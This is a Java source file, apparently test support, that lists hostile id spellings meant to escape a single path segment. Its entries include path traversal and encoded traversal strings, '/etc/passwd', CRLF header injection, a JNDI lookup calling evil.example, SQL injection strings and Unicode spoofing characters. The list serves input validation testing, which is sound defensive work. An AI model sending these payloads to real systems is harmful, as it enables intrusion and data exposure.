package io.orgraph.attack;

import java.util.List;

/** Ids that want to be more, or something else, than one segment of a path. */
final class Spellings {
    private static final String RIGHT_TO_LEFT = "\u202E";
    private static final String LONE_SURROGATE = "\uD800";

    private Spellings() {}

    static List<String> all() {
        return List.of(
                ".",
                "..",
                "...",
                "%2e",
                "%2e%2e",
                "%2E.",
                "%252e%252e",
                "a/b",
                "a/../b",
                "../../organizations",
                "a/%2e%2e/b",
                "..%2f..%2fusers",
                "..;/users",
                "a%2fb",
                "a\\..\\b",
                "..%5c..",
                "/",
                "//evil.example/",
                "/etc/passwd",
                "?x=1",
                "a?page=0&admin=true",
                "#",
                "a#b",
                "a&b=c",
                "a;b=c",
                "a:b",
                "a@evil.example",
                "http://evil.example/x",
                "https:%2f%2fevil.example",
                "file:///etc/passwd",
                "a\r\nHost: evil.example",
                "a%0d%0aX-Evil: 1",
                "a\nb",
                "a\u0000",
                "%00",
                "a b",
                "+",
                "*",
                "{workspace}",
                "${jndi:ldap://evil.example}",
                "' OR '1'='1",
                "\"; DROP TABLE users",
                RIGHT_TO_LEFT + "nimda",
                "a\u200Bb",
                "\uFF0E\uFF0E\uFF0F",
                "\u2024\u2024",
                "\u0130\u0131\u017F",
                "e\u0301",
                "\uD83D\uDE00",
                "\uFEFFa",
                LONE_SURROGATE,
                "a" + LONE_SURROGATE + "b",
                "\uDC00\uD800",
                "%c0%ae%c0%ae",
                "%u002e%u002e",
                "a".repeat(256),
                "a".repeat(257),
                "\u6F22".repeat(200),
                "a".repeat(10_240));
    }
}
